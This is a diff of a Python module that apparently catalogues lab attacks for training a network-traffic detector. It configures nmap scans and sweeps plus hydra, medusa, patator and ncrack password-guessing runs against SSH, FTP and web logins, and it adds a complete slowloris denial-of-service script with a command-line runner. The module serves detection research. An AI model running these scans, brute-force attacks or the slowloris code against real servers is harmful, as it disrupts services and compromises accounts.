+    _v(
+        "vulnerability_scan",
+        "nmap-version-all",
+        "nmap",
+        nmap(
+            "-sV",
+            "--version-all",
+            "--version-intensity",
+            "9",
+            "-T4",
+            "-Pn",
+            ports=port_list("21,22,53,80,443,1883,8080"),
+            targets=servers("web", "mqtt"),
+        ),
+        90,
+        "many",
+        "exhaustive service-version probing",
+    ),
+    _v(
+        "vulnerability_scan",
+        "nmap-tls-audit",
+        "nmap",
+        nmap(
+            "-sV",
+            "--script",
+            "ssl-enum-ciphers,ssl-cert,ssl-heartbleed,ssl-poodle,ssl-dh-params",
+            "-Pn",
+            ports=port_list("443"),
+            targets=servers("web"),
+        ),
+        60,
+        "many",
+        "TLS configuration and known-TLS-bug probing",
+        heldout=True,
+    ),
+    # Sweeps: every probed address is its own ICMP or TCP connection, so even a /24 gives hundreds.
+    _v(
+        "ping_sweep",
+        "nmap-sn-PE",
+        "nmap",
+        nmap("-sn", "-PE", "--disable-arp-ping", ports=no_ports, targets=sweep),
+        60,
+        "many",
+        "ICMP echo sweep of the server subnet",
+    ),
+    _v(
+        "ping_sweep",
+        "nmap-sn-PP-PM",
+        "nmap",
+        nmap("-sn", "-PP", "-PM", "--disable-arp-ping", "-T4", ports=no_ports, targets=sweep),
+        60,
+        "many",
+        "ICMP timestamp and netmask sweep",
+    ),
+    _v(
+        "ping_sweep",
+        "nmap-sn-PS-PA",
+        "nmap",
+        nmap("-sn", "-PS22,80,443", "-PA80", "--disable-arp-ping", ports=no_ports, targets=sweep),
+        60,
+        "many",
+        "TCP SYN/ACK ping sweep",
+    ),
+    _v(
+        "ping_sweep",
+        "nping-icmp-sweep",
+        "nping",
+        nping_sweep("--icmp", "--rate", "200"),
+        60,
+        "many",
+        "nping echo to every address of the block, one each",
+    ),
+    _v(
+        "ping_sweep",
+        "fping-generate",
+        "fping",
+        fping(sweep),
+        60,
+        "many",
+        "fping round-robin over the generated address list",
+        heldout=True,
+    ),
+]
+
+_BRUTEFORCE: list[Variant] = [
+    _v(
+        "dictionary_attack",
+        "hydra-ssh-t4",
+        "hydra",
+        hydra("ssh", 4, 8, 60, lambda lab: [f"ssh://{lab.servers['ssh']}"]),
+        120,
+        "many",
+        "hydra SSH, 4 tasks",
+    ),
+    _v(
+        "dictionary_attack",
+        "hydra-ftp-t16",
+        "hydra",
+        hydra("ftp", 16, 10, 120, lambda lab: [f"ftp://{lab.servers['ftp']}"]),
+        120,
+        "many",
+        "hydra FTP, 16 tasks",
+    ),
+    _v(
+        "dictionary_attack",
+        "hydra-http-basic-t8",
+        "hydra",
+        hydra("http_basic", 8, 12, 160, lambda lab: [lab.servers["web"], "http-get", "/admin/"]),
+        90,
+        "many",
+        "hydra HTTP basic auth on /admin/, 8 tasks",
+    ),
+    _v(
+        "dictionary_attack",
+        "hydra-http-form-t12",
+        "hydra",
+        hydra("http_form", 12, 12, 160, _http_form_module),
+        90,
+        "many",
+        "hydra POSTing the /login form, 12 tasks",
+    ),
+    _v(
+        "dictionary_attack",
+        "medusa-ssh-t4",
+        "medusa",
+        medusa("ssh", "ssh", 4, 4, 30),
+        120,
+        "many",
+        "medusa SSH, 4 parallel logins",
+    ),
+    _v(
+        "dictionary_attack",
+        "medusa-ftp-t6",
+        "medusa",
+        medusa("ftp", "ftp", 6, 10, 100),
+        120,
+        "many",
+        "medusa FTP, 6 parallel logins",
+    ),
+    _v(
+        "dictionary_attack",
+        "patator-ftp-t8",
+        "patator",
+        patator_ftp(8, 10, 100),
+        120,
+        "many",
+        "patator FTP, one connection per attempt, 8 threads",
+    ),
+    _v(
+        "dictionary_attack",
+        "ncrack-ssh-cl8",
+        "ncrack",
+        ncrack("ssh", "ssh", 8, 5, 40),
+        120,
+        "many",
+        "ncrack SSH with its own timing engine",
+        heldout=True,
+        stop_signal="KILL",
+    ),
+    _v(
+        "dictionary_attack",
+        "patator-http-form-t6",
+        "patator",
+        patator_form(4, 12, 160),
+        90,
+        "few",
+        "patator http_fuzz against the /login form over 4 keep-alive connections",
+        heldout=True,
+    ),
+]
+
+CATALOGUE: list[Variant] = [*_FLOODS, *_DNS_AND_SLOW, *_RECON, *_BRUTEFORCE]
+
+
+def variant(name: str) -> Variant:
+    """The catalogue entry called `name`; a KeyError lists the known names."""
+    for entry in CATALOGUE:
+        if entry.name == name:
+            return entry
+    raise KeyError(f"no attack variant {name!r}; known: {', '.join(v.name for v in CATALOGUE)}")
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# A slowloris of its own (run as `python -m packetclip_training.lab.attacks slowloris HOST ...`)
+# ---------------------------------------------------------------------------------------------------------------
+
+
+def _open_partial_request(host: str, port: int, rng: random.Random) -> socket.socket | None:
+    try:
+        sock = socket.create_connection((host, port), timeout=3)
+        request = f"GET /?{rng.randint(0, 99999)} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slowclient\r\n"
+        sock.sendall(request.encode())
+        return sock
+    except OSError as error:
+        log.debug("slowloris: connect to %s:%d failed: %s", host, port, error)
+        return None
+
+
+def run_slowloris(host: str, port: int, connections: int, interval: float, seconds: float) -> dict[str, int]:
+    """Hold up to `connections` requests open by sending one more header line per socket every `interval` s,
+    reopening dropped ones, until `seconds` pass; returns counts of opened and dropped sockets."""
+    ipaddress.IPv4Address(host)  # a lab address, never a name that could resolve elsewhere
+    rng = random.Random()
+    deadline = time.monotonic() + seconds
+    open_sockets: list[socket.socket] = []
+    counts = {"opened": 0, "dropped": 0, "headers": 0}
+    try:
+        while time.monotonic() < deadline:
+            while len(open_sockets) < connections and time.monotonic() < deadline:
+                sock = _open_partial_request(host, port, rng)
+                if sock is None:
+                    break
+                open_sockets.append(sock)
+                counts["opened"] += 1
+            for sock in list(open_sockets):
+                try:
+                    sock.sendall(f"X-{_random_label(rng, 4)}: {_random_label(rng, 8)}\r\n".encode())
+                    counts["headers"] += 1
+                except OSError:
+                    open_sockets.remove(sock)
+                    sock.close()
+                    counts["dropped"] += 1
+            time.sleep(max(0.0, min(interval, deadline - time.monotonic())))
+    finally:
+        for sock in open_sockets:
+            sock.close()
+    return counts
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(prog="python -m packetclip_training.lab.attacks")
+    commands = parser.add_subparsers(dest="command", required=True)
+    slow = commands.add_parser("slowloris", help="hold HTTP requests open with slowly sent headers")
+    slow.add_argument("host", help="IPv4 address of the web server")
+    slow.add_argument("--port", type=int, default=80)
+    slow.add_argument("--connections", type=int, default=100)
+    slow.add_argument("--interval", type=float, default=10.0, help="seconds between header lines per socket")
+    slow.add_argument("--seconds", type=float, default=30.0, help="length of the attack")
+    args = parser.parse_args(argv)
+    logging.basicConfig(level=logging.INFO, format="%(message)s")
+    counts = run_slowloris(args.host, args.port, args.connections, args.interval, args.seconds)
+    log.info("slowloris %s:%d: %s", args.host, args.port, counts)
+    return 0 if counts["opened"] else 1
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
